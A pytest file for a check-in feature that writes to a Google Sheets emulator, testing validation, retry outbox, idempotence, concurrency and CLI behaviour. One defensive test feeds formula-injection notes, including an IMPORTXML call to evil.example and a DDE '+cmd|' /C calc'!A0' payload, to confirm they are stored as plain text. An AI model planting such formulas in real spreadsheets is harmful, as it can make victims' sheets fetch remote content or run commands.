"""Check-ins: validation, the write to CheckIns against the Sheets emulator, the outbox, the
local check-ins of the sample and file sources, and `cli.py check-in` / `cli.py outbox`."""

from __future__ import annotations

import concurrent.futures
import dataclasses
import datetime as dt
import json
import multiprocessing
import threading
from pathlib import Path

import pytest

import cli
from data_sources import checkins
from data_sources.checkins import CheckIn, CheckInOutbox, InvalidCheckIn, new_checkin
from data_sources.config import SourceSpec
from data_sources.loader import read_source
from data_sources.sample import SAMPLE_DIR
from portfolio.parse import parse_workbook
from tests.conftest import raw_workbook
from tools.sheets_emulator import CLIENT_EMAIL, FakeSheets

pytestmark = pytest.mark.usefixtures("fresh_sheet_writers")

NOW = dt.datetime(2026, 6, 1, 9, 30, tzinfo=dt.UTC)
KNOWN = {"AI-001", "AI-002", "AI-003"}
HEADER = list(checkins.COLUMNS)
CONCURRENT_WRITERS = 20
PROCESSES = 4  # the machine has two cores; four processes still interleave their writes


def _checkin(ident: str = "AI-001", *, note: str = "", checkin_id: str | None = None) -> CheckIn:
    return new_checkin(
        initiative_id=ident,
        reported_status="Green",
        stage="Pilot",
        active_users="7",
        note=note,
        author="Dana",
        known_ids=KNOWN,
        now=NOW,
        checkin_id=checkin_id,
    )


def _data_rows(sheets: FakeSheets) -> list[list]:
    return sheets.tabs["CheckIns"][1:]


# -- validation ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("typed", "expected"),
    [
        ({}, ("AI-001", "Green", "Pilot", None)),
        ({"initiative_id": " ai-002 "}, ("AI-002", "Green", "Pilot", None)),
        ({"reported_status": "🔴", "stage": "on hold"}, ("AI-001", "Red", "Stalled", None)),
        ({"reported_status": "amber", "stage": "live"}, ("AI-001", "Amber", "Adopted", None)),
        ({"active_users": "0"}, ("AI-001", "Green", "Pilot", 0)),
        ({"active_users": "1,200"}, ("AI-001", "Green", "Pilot", 1200)),
        ({"active_users": 12}, ("AI-001", "Green", "Pilot", 12)),
        ({"active_users": 12.0}, ("AI-001", "Green", "Pilot", 12)),
        ({"active_users": "  "}, ("AI-001", "Green", "Pilot", None)),
    ],
)
def test_valid_input_is_read_like_the_sheet(typed, expected):
    fields = {"initiative_id": "AI-001", "reported_status": "green", "stage": "pilot", **typed}
    checkin = new_checkin(**fields, known_ids=KNOWN, now=NOW)
    got = (checkin.initiative_id, checkin.reported_status, checkin.stage, checkin.active_users)
    assert got == expected
    assert checkin.timestamp == "2026-06-01T09:30:00Z"


@pytest.mark.parametrize(
    ("typed", "field", "words"),
    [
        ({"initiative_id": "AI-999"}, "initiative_id", '"AI-999" is not an id'),
        ({"initiative_id": ""}, "initiative_id", "Pick the initiative"),
        ({"reported_status": "Purple"}, "reported_status", '"Purple" is not a status'),
        ({"reported_status": ""}, "reported_status", "Choose a status"),
        ({"stage": "Done-ish"}, "stage", '"Done-ish" is not a stage'),
        ({"active_users": "-3"}, "active_users", "0 or more"),
        ({"active_users": "twelve"}, "active_users", "whole number"),
        ({"active_users": "12.5"}, "active_users", "whole number"),
        ({"active_users": True}, "active_users", "whole number"),
        ({"active_users": "99999999"}, "active_users", "more than any team"),
        ({"note": "x" * 2001}, "note", "under 2,000"),
        ({"author": "y" * 121}, "author", "at most 120"),
    ],
)
def test_invalid_input_names_the_field_and_the_fix(typed, field, words):
    fields = {"initiative_id": "AI-001", "reported_status": "Green", "stage": "Pilot", **typed}
    with pytest.raises(InvalidCheckIn) as caught:
        new_checkin(**fields, known_ids=KNOWN, now=NOW)
    assert list(caught.value.problems) == [field]
    assert words in caught.value.problems[field]
    assert words in str(caught.value)


def test_every_problem_is_reported_at_once():
    with pytest.raises(InvalidCheckIn) as caught:
        new_checkin(
            initiative_id="nope", reported_status="x", stage="y", active_users="-1", known_ids=KNOWN
        )
    assert set(caught.value.problems) == {
        "initiative_id",
        "reported_status",
        "stage",
        "active_users",
    }


def test_a_row_follows_the_sheet_header_whatever_its_order_and_spelling():
    checkin = _checkin(note="ok", checkin_id="c-1")
    columns = checkins.columns_of(["Note", "UUID", "Status", "extra", "initiative"])
    assert columns == ["note", "checkin_id", "reported_status", None, "initiative_id"]
    assert checkin.row(columns) == ["ok", "c-1", "Green", "", "AI-001"]


def test_timestamps_are_utc_text():
    paris = dt.timezone(dt.timedelta(hours=2))
    assert checkins.timestamp_text(dt.datetime(2026, 6, 1, 11, 0, 5, tzinfo=paris)) == (
        "2026-06-01T09:00:05Z"
    )


# -- writing to the sheet ------------------------------------------------------------------


def test_a_checkin_is_one_raw_append_of_one_row(sheets_emulator, sheet_spec, tmp_path):
    checkin = _checkin(checkin_id="c-1", note="ok")
    delivery = checkins.submit(checkin, sheet_spec, data_dir=tmp_path)
    assert delivery.status == checkins.WRITTEN
    assert _data_rows(sheets_emulator) == [
        ["c-1", "2026-06-01T09:30:00Z", "AI-001", "Dana", "Green", "Pilot", 7, "ok"]
    ]
    (call,) = sheets_emulator.append_calls
    assert (call["valueInputOption"], call["insertDataOption"]) == ("RAW", "INSERT_ROWS")
    assert checkins.pending(sheet_spec, data_dir=tmp_path) == []


@pytest.mark.parametrize(
    "note",
    [
        '=IMPORTXML("https://evil.example/x", "//a")',
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "=1+1",
        "'=quoted",
    ],
)
def test_formula_like_notes_are_stored_verbatim_as_text(
    sheets_emulator, sheet_spec, tmp_path, note
):
    checkins.submit(_checkin(note=note), sheet_spec, data_dir=tmp_path)
    (row,) = _data_rows(sheets_emulator)
    # The emulator turns text into numbers or booleans under USER_ENTERED; RAW keeps it.
    assert row[-1] == note
    assert isinstance(row[-1], str)
    assert sheets_emulator.append_calls[-1]["valueInputOption"] == "RAW"


def test_twenty_concurrent_checkins_land_once_each(sheets_emulator, sheet_spec, tmp_path):
    barrier = threading.Barrier(CONCURRENT_WRITERS)
    results: list[checkins.Delivery] = []
    lock = threading.Lock()

    def write(n: int) -> None:
        checkin = _checkin(note=f"writer {n}")
        barrier.wait()
        delivery = checkins.submit(checkin, sheet_spec, data_dir=tmp_path)
        with lock:
            results.append(delivery)

    threads = [threading.Thread(target=write, args=(n,)) for n in range(CONCURRENT_WRITERS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert [d.status for d in results] == [checkins.WRITTEN] * CONCURRENT_WRITERS
    rows = _data_rows(sheets_emulator)
    assert len(rows) == CONCURRENT_WRITERS
    assert len({row[0] for row in rows}) == CONCURRENT_WRITERS
    assert sorted(row[-1] for row in rows) == sorted(
        f"writer {n}" for n in range(CONCURRENT_WRITERS)
    )
    assert sheets_emulator.count("append") == CONCURRENT_WRITERS


def test_an_empty_checkins_tab_gets_its_header_first(sheets_emulator, sheet_spec, tmp_path):
    sheets_emulator.tabs["CheckIns"] = []
    checkins.submit(_checkin(checkin_id="c-1"), sheet_spec, data_dir=tmp_path)
    assert sheets_emulator.tabs["CheckIns"][0] == HEADER
    assert sheets_emulator.tabs["CheckIns"][1][0] == "c-1"


def test_a_header_in_another_order_gets_cells_in_its_order(sheets_emulator, sheet_spec, tmp_path):
    sheets_emulator.tabs["CheckIns"] = [
        ["When", "Check in ID", "Initiative", "Status", "Stage", "Users", "Note", "By", "Mood"]
    ]
    checkins.submit(_checkin(checkin_id="c-9", note="n"), sheet_spec, data_dir=tmp_path)
    assert sheets_emulator.tabs["CheckIns"][1] == [
        "2026-06-01T09:30:00Z", "c-9", "AI-001", "Green", "Pilot", 7, "n", "Dana", ""
    ]  # fmt: skip


def test_a_header_lacking_a_filled_column_queues_with_the_fix(
    sheets_emulator, sheet_spec, tmp_path
):
    sheets_emulator.tabs["CheckIns"] = [["checkin_id", "timestamp", "initiative_id", "stage"]]
    delivery = checkins.submit(_checkin(note="kept"), sheet_spec, data_dir=tmp_path)
    assert delivery.status == checkins.QUEUED
    assert "no column author, reported_status, active_users, note" in delivery.error.message
    assert sheets_emulator.count("append") == 0


def test_a_missing_checkins_tab_queues_with_the_header_to_add(
    sheets_emulator, sheet_spec, tmp_path
):
    del sheets_emulator.tabs["CheckIns"]
    delivery = checkins.submit(_checkin(), sheet_spec, data_dir=tmp_path)
    assert delivery.status == checkins.QUEUED
    assert 'no tab named "CheckIns"' in delivery.error.message
    assert "checkin_id, timestamp, initiative_id" in delivery.error.message
    access = checkins.write_access(sheet_spec, refresh=True)
    assert access.can_write is False


# -- outages, the outbox and idempotent resending ----------------------------------------


def test_a_503_queues_then_two_sends_land_it_exactly_once(sheets_emulator, gsheets_workdir, capsys):
    sheets_emulator.fail(503, endpoints={"append"})
    code = cli.main(
        ["check-in", "--initiative", "AI-002", "--status", "Amber", "--stage", "Rollout",
         "--active-users", "4", "--note", "=HYPERLINK(\"x\")", "--author", "Sam"]
    )  # fmt: skip
    out = capsys.readouterr().out
    assert code == cli.EXIT_OK
    assert "status: queued" in out
    ident = out.split("checkin_id: ", 1)[1].split()[0]
    assert _data_rows(sheets_emulator) == []

    # Still down: the check-in stays queued and the job says so.
    assert cli.main(["outbox", "--send"]) == cli.EXIT_STILL_PENDING
    assert ident in capsys.readouterr().out

    sheets_emulator.heal()
    assert cli.main(["outbox", "--send"]) == cli.EXIT_OK
    assert "Sent 1; 0 had already landed; 0 still waiting." in capsys.readouterr().out
    assert cli.main(["outbox", "--send"]) == cli.EXIT_OK
    assert "0 check-in(s) waiting" in capsys.readouterr().out

    rows = _data_rows(sheets_emulator)
    assert [row[0] for row in rows] == [ident]
    assert rows[0][2:] == ["AI-002", "Sam", "Amber", "Rollout", 4, '=HYPERLINK("x")']


@pytest.mark.parametrize("fault", ["503", "timeout"])
def test_a_failed_append_is_queued_after_one_request(
    fault, sheets_emulator, sheet_spec, tmp_path, monkeypatch
):
    # The write path sends once and leaves every retry to the outbox: a second append from
    # the writer itself could land a row the first one had already written.
    if fault == "503":
        sheets_emulator.fail(503, endpoints={"append"})
    else:
        quick = dataclasses.replace(checkins.WRITE_POLICY, read_timeout=0.5, total_seconds=5.0)
        monkeypatch.setattr("data_sources.checkins.sheet.WRITE_POLICY", quick)
        checkins.forget_writers()
        sheets_emulator.hang(2.0, times=1, endpoints={"append"})
    delivery = checkins.submit(_checkin(checkin_id="c-once"), sheet_spec, data_dir=tmp_path)
    assert delivery.status == checkins.QUEUED
    assert sheets_emulator.count("append") == 1
    assert [p.item.checkin_id for p in checkins.pending(sheet_spec, data_dir=tmp_path)] == [
        "c-once"
    ]


def test_an_append_whose_answer_was_lost_is_not_sent_twice(sheets_emulator, sheet_spec, tmp_path):
    # The append lands, but the answer is cut: the writer cannot know, so it queues.
    sheets_emulator.truncate(times=1, endpoints={"append"})
    delivery = checkins.submit(_checkin(checkin_id="c-lost"), sheet_spec, data_dir=tmp_path)
    assert delivery.status == checkins.QUEUED
    assert [row[0] for row in _data_rows(sheets_emulator)] == ["c-lost"]

    report = checkins.send_pending(sheet_spec, data_dir=tmp_path)
    assert (report.sent, report.already_there, report.remaining) == ((), ("c-lost",), 0)
    assert sheets_emulator.count("append") == 1
    assert [row[0] for row in _data_rows(sheets_emulator)] == ["c-lost"]


def test_a_403_names_the_service_account_and_the_editor_role(sheets_emulator, sheet_spec, tmp_path):
    sheets_emulator.fail(403, endpoints={"append"})
    access = checkins.write_access(sheet_spec)
    assert access.can_write is False
    assert CLIENT_EMAIL in access.message
    assert "Editor" in access.message

    delivery = checkins.submit(_checkin(), sheet_spec, data_dir=tmp_path)
    assert delivery.status == checkins.QUEUED
    assert isinstance(delivery.error, checkins.SheetReadOnly)
    assert f"{CLIENT_EMAIL} may read the sheet but not edit it" in delivery.error.message
    assert len(checkins.pending(sheet_spec, data_dir=tmp_path)) == 1


def test_write_access_is_probed_once_then_remembered(sheets_emulator, sheet_spec):
    assert checkins.write_access(sheet_spec).can_write is True
    assert checkins.write_access(sheet_spec).can_write is True
    assert sheets_emulator.count("append") == 1
    assert sheets_emulator.tabs["CheckIns"] == [HEADER]  # the probe wrote nothing


def test_an_outage_is_not_probed_on_every_rerun(sheets_emulator, sheet_spec):
    assert checkins.write_access(sheet_spec, sheet_answered=False).can_write is None
    assert sheets_emulator.counts == {}
    sheets_emulator.fail(503)
    first = checkins.write_access(sheet_spec)
    assert first.can_write is None
    assert "Cannot tell right now" in first.message
    asked = dict(sheets_emulator.counts)
    assert checkins.write_access(sheet_spec) == first
    assert sheets_emulator.counts == asked


def test_resubmitting_the_same_checkin_is_idempotent(sheets_emulator, sheet_spec, tmp_path):
    checkin = _checkin(checkin_id="c-same")
    sheets_emulator.fail(500, endpoints={"append"})
    assert checkins.submit(checkin, sheet_spec, data_dir=tmp_path).status == checkins.QUEUED
    assert checkins.submit(checkin, sheet_spec, data_dir=tmp_path).status == checkins.QUEUED
    (waiting,) = checkins.pending(sheet_spec, data_dir=tmp_path)
    assert waiting.attempts == 2
    sheets_emulator.heal()
    assert checkins.submit(checkin, sheet_spec, data_dir=tmp_path).status == checkins.WRITTEN
    assert checkins.send_pending(sheet_spec, data_dir=tmp_path).already_there == ("c-same",)
    assert [row[0] for row in _data_rows(sheets_emulator)] == ["c-same"]


def test_a_busy_outbox_is_left_to_its_sender(sheets_emulator, sheet_spec, tmp_path):
    sheets_emulator.fail(503, endpoints={"append"})
    checkins.submit(_checkin(), sheet_spec, data_dir=tmp_path)
    sheets_emulator.heal()
    outbox = CheckInOutbox(tmp_path, checkins.target_key(sheet_spec))
    with outbox.sending() as mine:
        assert mine
        report = checkins.send_pending(sheet_spec, data_dir=tmp_path)
    assert (report.busy, report.remaining, report.sent) == (True, 1, ())
    assert checkins.send_pending(sheet_spec, data_dir=tmp_path).sent != ()


def test_retry_is_due_once_the_last_attempt_is_old_enough(sheets_emulator, sheet_spec, tmp_path):
    assert not checkins.retry_due(sheet_spec, data_dir=tmp_path)
    outbox = CheckInOutbox(tmp_path, checkins.target_key(sheet_spec))
    outbox.add(_checkin(), error="down", now=NOW)
    soon = NOW + dt.timedelta(seconds=checkins.OUTBOX_RETRY_SECONDS - 1)
    later = NOW + dt.timedelta(seconds=checkins.OUTBOX_RETRY_SECONDS)
    assert not checkins.retry_due(sheet_spec, data_dir=tmp_path, now=soon)
    assert checkins.retry_due(sheet_spec, data_dir=tmp_path, now=later)


def test_concurrent_outbox_writers_lose_nothing(tmp_path):
    outbox = CheckInOutbox(tmp_path, "gsheets-x")
    barrier = threading.Barrier(CONCURRENT_WRITERS)

    def add(n: int) -> None:
        checkin = _checkin(checkin_id=f"c-{n:02d}")
        barrier.wait()
        outbox.add(checkin, error="down")

    threads = [threading.Thread(target=add, args=(n,)) for n in range(CONCURRENT_WRITERS)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    ids = sorted(p.item.checkin_id for p in outbox.entries())
    assert ids == [f"c-{n:02d}" for n in range(CONCURRENT_WRITERS)]
    assert not list((tmp_path / "outbox").glob(".tmp-*"))


def _queue_from_another_process(directory: str, n: int) -> None:
    CheckInOutbox(Path(directory), "gsheets-x").add(_checkin(checkin_id=f"p-{n:02d}"), error="down")


def test_outbox_writers_in_several_processes_lose_nothing(tmp_path):
    context = multiprocessing.get_context("fork")
    with concurrent.futures.ProcessPoolExecutor(PROCESSES, mp_context=context) as pool:
        list(
            pool.map(
                _queue_from_another_process,
                [str(tmp_path)] * CONCURRENT_WRITERS,
                range(CONCURRENT_WRITERS),
            )
        )
    ids = sorted(p.item.checkin_id for p in CheckInOutbox(tmp_path, "gsheets-x").entries())
    assert ids == [f"p-{n:02d}" for n in range(CONCURRENT_WRITERS)]


def test_a_damaged_outbox_line_is_kept_not_dropped(tmp_path):
    outbox = CheckInOutbox(tmp_path, "gsheets-x")
    outbox.add(_checkin(checkin_id="c-1"), error="down")
    with outbox.path.open("a", encoding="utf-8") as handle:
        handle.write('{"checkin": {"checkin_id": "c-2", "initi\n')
    outbox.add(_checkin(checkin_id="c-3"), error="down")
    outbox.settle(sent={"c-1"})
    lines = outbox.path.read_text(encoding="utf-8").splitlines()
    assert [p.item.checkin_id for p in outbox.entries()] == ["c-3"]
    assert '{"checkin": {"checkin_id": "c-2", "initi' in lines


# -- the sample and local files ------------------------------------------------------------


def test_sample_checkins_go_to_a_local_file_and_into_the_workbook(tmp_path, monkeypatch):
    monkeypatch.setenv("GROUNDTRUTH_DATA_DIR", str(tmp_path))
    before = (SAMPLE_DIR / "CheckIns.csv").read_bytes()
    spec = SourceSpec("sample")
    first = read_source(spec).tabs["CheckIns"]
    checkin = new_checkin(
        initiative_id="AI-014", reported_status="Red", stage="Reverted", note="=1+1", now=NOW
    )
    delivery = checkins.submit(checkin, spec)
    assert delivery.status == checkins.WRITTEN
    assert str(tmp_path / "checkins" / "sample.jsonl") in delivery.where

    rows = read_source(spec).tabs["CheckIns"]
    assert rows[:-1] == first
    assert rows[-1] == [checkin.checkin_id, "2026-06-01T09:30:00Z", "AI-014", "", "Red",
                        "Reverted", "", "=1+1"]  # fmt: skip
    assert (SAMPLE_DIR / "CheckIns.csv").read_bytes() == before
    assert checkins.write_access(spec).can_write is True


def test_merging_creates_the_tab_and_extends_a_short_header(tmp_path):
    store = checkins.LocalCheckIns(tmp_path, "file-x")
    store.add(_checkin(checkin_id="c-1", note="n"))
    assert not store.add(_checkin(checkin_id="c-1", note="again"))  # once per id

    bare = raw_workbook({"Initiatives": [["id"], ["AI-001"]]})
    merged = checkins.merge_local_checkins(bare, key="file-x", data_dir=tmp_path)
    assert merged.tabs["CheckIns"] == [
        HEADER, ["c-1", "2026-06-01T09:30:00Z", "AI-001", "Dana", "Green", "Pilot", 7, "n"]
    ]  # fmt: skip
    assert "CheckIns" not in bare.tabs  # the workbook read is not changed in place

    short = raw_workbook(
        {"Check ins": [["Check in ID", "When", "ID"], ["c-1", "2026-05-01", "AI-001"]]}
    )
    merged = checkins.merge_local_checkins(short, key="file-x", data_dir=tmp_path)
    assert merged is short  # c-1 is there already


def test_a_local_checkin_overrides_status_and_stage_in_the_evidence(tmp_path, monkeypatch):
    monkeypatch.setenv("GROUNDTRUTH_DATA_DIR", str(tmp_path / "data"))
    folder = tmp_path / "book"
    folder.mkdir()
    (folder / "Initiatives.csv").write_text(
        "id,name,team,origin,reported_status,stage,started\n"
        "AI-001,Drafts,Support,Mandate,Green,Pilot,2026-05-01\n",
        encoding="utf-8",
    )
    spec = SourceSpec("file", str(folder))
    checkins.submit(
        new_checkin(
            initiative_id="AI-001", reported_status="Red", stage="Abandoned", known_ids=KNOWN
        ),
        spec,
    )
    portfolio = parse_workbook(read_source(spec))
    from portfolio.evidence import assess

    row = assess(portfolio).set_index("id").loc["AI-001"]
    assert (row["reported_status"], row["stage"], row["verdict"]) == (
        "Red",
        "Abandoned",
        "abandoned",
    )
    assert (row["row_status"], row["row_stage"]) == ("Green", "Pilot")


# -- the command line ----------------------------------------------------------------------


def test_cli_check_in_on_the_sample_prints_id_and_written(tmp_path, monkeypatch, capsys):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("GROUNDTRUTH_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.delenv("GROUNDTRUTH_SOURCE", raising=False)
    code = cli.main(["check-in", "--initiative", "AI-004", "--status", "Green", "--stage",
                     "Adopted", "--active-users", "40", "--source", "sample"])  # fmt: skip
    out = capsys.readouterr().out
    assert code == cli.EXIT_OK
    ident = out.split("checkin_id: ", 1)[1].split()[0]
    assert "status: written" in out
    (line,) = (tmp_path / "data" / "checkins" / "sample.jsonl").read_text().splitlines()
    assert json.loads(line)["checkin_id"] == ident
    assert cli.main(["outbox", "--source", "sample"]) == cli.EXIT_OK


@pytest.mark.parametrize(
    ("args", "words"),
    [
        (["--initiative", "AI-999", "--status", "Green", "--stage", "Pilot"], '"AI-999" is not'),
        (["--initiative", "AI-004", "--status", "Blue", "--stage", "Pilot"], '"Blue" is not'),
        (["--initiative", "AI-004", "--status", "Green", "--stage", "Pilot",
          "--active-users", "-5"], "0 or more"),
    ],
)  # fmt: skip
def test_cli_check_in_rejects_bad_input_clearly(tmp_path, monkeypatch, capsys, args, words):
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path))
    monkeypatch.setenv("GROUNDTRUTH_DATA_DIR", str(tmp_path / "data"))
    code = cli.main(["check-in", *args, "--source", "sample"])
    captured = capsys.readouterr()
    assert code == cli.EXIT_USAGE
    assert words in captured.err
    assert "nothing was written" in captured.err
    assert not (tmp_path / "data" / "checkins").exists()


def test_nothing_is_kept_when_the_data_folder_is_not_writable(tmp_path, monkeypatch):
    blocked = tmp_path / "blocked"
    blocked.write_text("a file where the data folder should be", encoding="utf-8")
    with pytest.raises(checkins.OutboxUnavailable) as caught:
        checkins.submit(_checkin(), SourceSpec("sample"), data_dir=blocked)
    assert "GROUNDTRUTH_DATA_DIR" in str(caught.value)


def test_checkins_file_paths_are_per_source(tmp_path):
    sample = checkins.LocalCheckIns(tmp_path, checkins.target_key(SourceSpec("sample")))
    other = checkins.LocalCheckIns(
        tmp_path, checkins.target_key(SourceSpec("file", str(tmp_path / "a.xlsx")))
    )
    assert sample.path == tmp_path / "checkins" / "sample.jsonl"
    assert other.path != sample.path
    assert Path(other.path).parent == sample.path.parent
